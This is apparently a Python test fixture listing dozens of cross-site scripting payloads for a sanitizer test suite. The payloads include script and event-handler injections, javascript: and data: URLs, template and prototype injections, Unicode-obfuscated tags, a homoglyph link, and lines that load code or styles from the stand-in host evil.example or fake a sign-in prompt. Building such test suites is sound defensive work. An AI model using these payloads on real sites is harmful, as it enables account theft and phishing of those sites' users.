"""What somebody may write to have it run in another's browser.

Each calls `pwned`, which a test gives to every page, or fetches from evil.example, which a test
sees. Written for this suite; the kinds are those of the OWASP cheat sheet and of old widgets' CVEs.
"""

from __future__ import annotations

MARKUP = (
    "<script>pwned(1)</script>",
    "<ScRiPt >pwned(2)</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    '<script type="module">import "https://evil.example/m.js"</script>',
    "<scr<script>ipt>pwned(3)</scr</script>ipt>",
    "<img src=x onerror=pwned(4)>",
    "<img src=https://evil.example/x.png>",
    '<img src="x:x" onerror="pwned(5)" alt=">">',
    "<image href=x onerror=pwned(6)>",
    "<body onload=pwned(7)>",
    "<iframe src=javascript:pwned(8)></iframe>",
    '<iframe srcdoc="<script>parent.pwned(9)</script>"></iframe>',
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "<video><source onerror=pwned(10)></video><audio src=x onerror=pwned(11)>",
    "<details open ontoggle=pwned(12)>",
    "<input autofocus onfocus=pwned(13)>",
    "<select autofocus onfocus=pwned(14)><textarea autofocus onfocus=pwned(15)>",
    "<marquee onstart=pwned(16)>old</marquee>",
    "<form action=https://evil.example><button>press me</button></form>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<template shadowrootmode=open><script>pwned(17)</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(18)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(19)>'>",
    "<dialog open>Your session has ended: <a href=https://evil.example>sign in</a></dialog>",
    "<!--><img src=x onerror=pwned(20)>-->",
    "<![CDATA[<script>pwned(21)</script>]]>",
    "<plaintext><xmp><listing>",
    "</textarea></title></style></script><script>pwned(22)</script>",
)

SVG = (
    "<svg onload=pwned(23)>",
    "<svg><script>pwned(24)</script></svg>",
    "<svg><animate onbegin=pwned(25) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:pwned(26)'><text x=9 y=20>press</text></a></svg>",
    "<svg><use href='https://evil.example/x.svg#x'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:pwned(27)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=pwned(28)>",
)

ATTRIBUTES = (
    '" onmouseover="pwned(29)" x="',
    "' onfocus='pwned(30)' autofocus x='",
    '"><img src=x onerror=pwned(31)>',
    "'><svg/onload=pwned(32)>",
    "` onerror=pwned(33) `",
    'x" style="position:fixed;inset:0;background:url(https://evil.example/x)',
    '" aria-label="Close chat" role="button" onclick=\'pwned(34)',
    "&quot; onmouseover=&quot;pwned(35)",
)

ADDRESSES = (
    "javascript:pwned(36)",
    "JaVaScRiPt:pwned(37)",
    "java\tscript:pwned(38)",
    "javascript&colon;pwned(39)",
    "javascript://https://shop.example/%0Apwned(40)",
    "data:text/html,<script>pwned(41)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCg0Mik8L3NjcmlwdD4=",
    "vbscript:pwned(43)",
    "blob:https://shop.example/<script>pwned(44)</script>",
    "[press](javascript:pwned(45)) <javascript:pwned(46)|press>",
    'https://shop.example/"onmouseover="pwned(47)',
    "https://shop.example/'><img src=x onerror=pwned(48)>",
    "https://javascript:pwned(49)@evil.example/",
    "HTTPS://shop.example@evil.example/%3Cscript%3Epwned(50)%3C/script%3E",
    "https://shop.example.\u202emoc.live//:sptth",
    "//evil.example/x.js",
)

TEMPLATES = (
    "{{constructor.constructor('pwned(51)')()}}",
    "${pwned(52)} #{pwned(53)} <%= pwned(54) %> {%raw%}{{7*7}}",
    "[[${pwned(55)}]] *{pwned(56)} @{javascript:pwned(57)}",
    "{greeting} {customer.name} {0} %s %(name)s $1 $& \\u003cscript>pwned(58)",
    "__proto__ constructor.prototype toString",
    '{"__proto__": {"innerHTML": "<img src=x onerror=pwned(59)>"}}',
)

STYLES = (
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style='background:url(https://evil.example/x)'>",
    "}</style><style>:host{display:none!important}",
    "expression(pwned(60)) -moz-binding:url(https://evil.example/x.xml#x)",
)

UNICODE = (
    "\uff1cscript\uff1epwned(61)\uff1c/script\uff1e",
    "\u2039img src=x onerror=pwned(62)\u203a",
    "<\u0130MG SRC=x ONERROR=pwned(63)>",
    "%3Cscript%3Epwned(64)%3C/script%3E &#60;script&#62;pwned(65)&#60;/script&#62;",
    "\\u003cimg src=x onerror=pwned(66)\\u003e \\x3cscript\\x3e",
    "+ADw-script+AD4-pwned(67)+ADw-/script+AD4-",
    "\u202e>tpircs/<)86(denwp>tpircs<\u202c",
    "\u2066\u2067\u202b\u202e never closed",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349alg\u0321o",
    "\U0001f9d1\u200d\U0001f4bb\u200d\u200d\u200b\u2060\ufeff<b>\u00ad</b>",
    "line\u2028separator\u2029<script>pwned(69)</script>",
    "\u6211\u8981\u9000\u8d27<img src=x onerror=pwned(70)>\u8ba2\u5355\u53f7AB204817",
)

PAYLOADS = (*MARKUP, *SVG, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *STYLES, *UNICODE)

LOOKALIKE = "https://\u0430pple.example/ looks like an apple"
"""A link whose letters are not those of the address that it opens."""

NAMES = tuple(text for text in PAYLOADS if "/" not in text and len(text) < 60)
"""Those that may be the name of a file, too: a path is cut off before it."""
